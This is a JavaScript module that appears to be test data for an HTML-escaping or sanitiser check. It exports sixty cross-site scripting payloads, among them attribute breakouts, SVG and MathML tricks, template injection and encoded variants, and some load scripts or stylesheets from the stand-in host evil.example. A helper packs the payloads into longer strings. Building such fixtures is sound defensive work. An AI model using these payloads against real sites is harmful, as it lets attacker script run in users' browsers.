// Sixty payloads. Each would call alert or load something if it were not escaped.

export const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<script type=module>alert(1)</script>",
  "<script>alert`1`</script>",
  "</script><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</noscript><script>alert(1)</script>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)//",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" style="position:fixed">',
  "<img src=1 href=1 onerror=alert(1)></img>",
  "<image src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "</svg><svg onload=alert(1)>",
  "</text></svg><script>alert(1)</script>",
  '"/></g></svg><img src=x onerror=alert(1)>',
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><set onbegin=alert(1) attributeName=x>",
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"/></svg>',
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<body onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  "x onmouseover=alert(1) y",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=x onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example/)}</style>",
  '<style>@import "//evil.example/x.css";</style>',
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "<template><script>alert(1)</script></template><xss onclick=alert(1) tabindex=1>",
];

/** All payloads in fewer texts, several in a row. @param {number} longest */
export function together(longest) {
  /** @type {string[]} */
  const texts = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length < longest) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
